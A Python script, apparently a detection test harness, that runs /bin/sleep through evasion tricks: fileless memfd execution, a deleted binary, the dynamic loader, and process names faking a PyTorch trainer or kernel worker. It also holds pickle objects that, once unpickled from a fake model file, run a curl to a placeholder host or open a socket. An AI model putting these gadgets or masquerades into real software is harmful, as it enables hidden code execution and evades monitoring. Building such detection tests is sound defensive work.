"""Runs a program that is not what it seems.

    execute.py memfd|deleted|fresh|loader|pickle|pickle_socket|comm
"""

import os
import pickle
import shutil
import socket
import subprocess
import sys

import stand

PROGRAM = "/bin/sleep"


def become(fd: int) -> None:
    os.execve(fd, ["pt_main_thread", "0.3"], {})


def in_memory() -> None:
    """From memory, without a file, under the name of a trainer."""
    fd = os.memfd_create("pt_main_thread")
    with open(PROGRAM, "rb") as file:
        os.write(fd, file.read())
    pid = os.fork()
    if pid == 0:
        become(fd)
    stand.say("ran", pid=pid)
    os.waitpid(pid, 0)


def deleted() -> None:
    """The file has no name left when it runs."""
    copy = os.path.join(stand.ROOM, "worker")
    shutil.copy(PROGRAM, copy)
    fd = os.open(copy, os.O_RDONLY)
    os.unlink(copy)
    pid = os.fork()
    if pid == 0:
        become(fd)
    stand.say("ran", pid=pid)
    os.waitpid(pid, 0)


def fresh() -> None:
    """Written a moment before, by the same workload."""
    copy = os.path.join(stand.ROOM, "worker")
    shutil.copy(PROGRAM, copy)
    process = subprocess.Popen([copy, "0.3"])
    stand.say("ran", pid=process.pid)
    process.wait()


def loader() -> None:
    """The kernel is shown the dynamic loader, which maps the fresh program."""
    paths = ("/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1")
    found = next((path for path in paths if os.path.exists(path)), None)
    if found is None:
        stand.cannot("the dynamic loader is not where it usually is")
    copy = os.path.join(stand.ROOM, "data.bin")
    shutil.copy(PROGRAM, copy)
    process = subprocess.Popen([found, copy, "0.3"])
    stand.say("ran", pid=process.pid)
    process.wait()


def kernel_name() -> None:
    """A fresh program that calls itself a thread of the kernel."""
    copy = os.path.join(stand.ROOM, "worker")
    shutil.copy(PROGRAM, copy)
    process = subprocess.Popen(["[kworker/0:1]", "0.3"], executable=copy)
    stand.say("ran", pid=process.pid)
    process.wait()


class Command:
    """Unpickled, it runs a command."""

    def __reduce__(self):
        return os.system, ("curl --silent --max-time 5 http://198.51.100.2/64 >/dev/null",)


def connect_and_send() -> int:
    with socket.create_connection((stand.FAR, stand.DISCARD), 10) as connection:
        connection.sendall(b"hello")
    return 0


class Connection:
    """Unpickled, it connects: no program is executed."""

    def __reduce__(self):
        return connect_and_send, ()


def unpickle(payload: object) -> None:
    path = os.path.join(stand.DIR, "models", f"loaded-{os.getpid()}.pkl")
    with open(path, "wb") as file:
        pickle.dump({"layers": bytes(1 << 16), "payload": payload}, file)
    stand.say("loads")
    with open(path, "rb") as file:
        pickle.load(file)


WAYS = {
    "memfd": in_memory,
    "deleted": deleted,
    "fresh": fresh,
    "loader": loader,
    "comm": kernel_name,
    "pickle": lambda: unpickle(Command()),
    "pickle_socket": lambda: unpickle(Connection()),
}


def main() -> None:
    stand.wait_for_go()
    WAYS[sys.argv[1]]()


if __name__ == "__main__":
    main()
